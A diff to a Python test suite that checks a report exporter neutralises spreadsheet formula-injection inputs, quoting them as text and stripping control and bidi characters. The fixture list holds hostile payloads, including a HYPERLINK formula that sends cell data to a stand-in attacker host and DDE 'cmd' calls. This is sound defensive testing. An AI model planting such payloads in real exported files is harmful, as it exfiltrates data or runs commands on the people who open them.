@@ -34,7 +34,7 @@ FIXTURES = TESTS / "fixtures" / "reports"
 PACK = FIXTURES / "pack.yaml"
 SHEETS = ["Summary", "Gaps", "Remediation plan", "Plan by partner", "Partners", "Rules", "Waivers", "Run"]
 PAYLOADS = [  # the first names the company, the next five the partners, the last three the waiver reasons
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', "\u202eevil\u202c name\ud800\uffff", "+SUM(1+1)",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "\u202eevil\u202c name\uffff", "+SUM(1+1)",
     "-2+3*cmd|' /C calc'!A0", "@SUM(1+1)", "Nul\x00Bell\x07Esc\x1b[31mName", "\t=1+1", "\r=1+1", "=cmd|'/C calc'!A0",
 ]
 
@@ -206,7 +206,7 @@ def test_formula_payloads_are_text_in_both_formats_and_unsafe_characters_are_gon
                 assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                 if isinstance(cell.value, str):
                     texts.add(cell.value)
-                    assert not any(ch in cell.value for ch in "\x00\x07\x1b\u202e\u202c\ud800\uffff")
+                    assert not any(ch in cell.value for ch in "\x00\x07\x1b\u202e\u202c\uffff")
                     if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                         assert cell.quotePrefix, (sheet.title, cell.coordinate)
                         seen.add(cell.value)
@@ -217,7 +217,7 @@ def test_formula_payloads_are_text_in_both_formats_and_unsafe_characters_are_gon
     assert texts_only and not any(f.startswith(("=", "+", "-", "@", "\t", "\r")) for f in texts_only)
     risky = {cell_text(v) for row in gap_rows(view) for v in row if isinstance(v, str) and starts_formula(cell_text(v))}
     assert len(risky) >= 3 and {"'" + text for text in risky} <= set(fields)  # kept, behind an apostrophe
-    assert not any(ch in f for f in fields for ch in "\x00\x07\x1b\u202e\ud800\uffff")
+    assert not any(ch in f for f in fields for ch in "\x00\x07\x1b\u202e\uffff")
 
 
 def test_cell_text_keeps_line_breaks_and_shortens_what_a_cell_cannot_hold() -> None:
@@ -306,3 +306,8 @@ def test_the_workbook_streams_to_a_pipe(view: ReportView) -> None:
     XlsxFormatter().write(view, pipe)
     book = openpyxl.load_workbook(io.BytesIO(pipe.getvalue()))
     assert book.sheetnames == SHEETS and gap_sheet_rows(book) == gap_sheet_rows(workbook(view))
+
+
+def test_cell_text_drops_what_a_spreadsheet_cannot_hold() -> None:
+    # the loaders refuse lone surrogates; the cells stay safe for any text that reaches them
+    assert cell_text("A\ud800\uffff\x00B\u202e") == "AB"
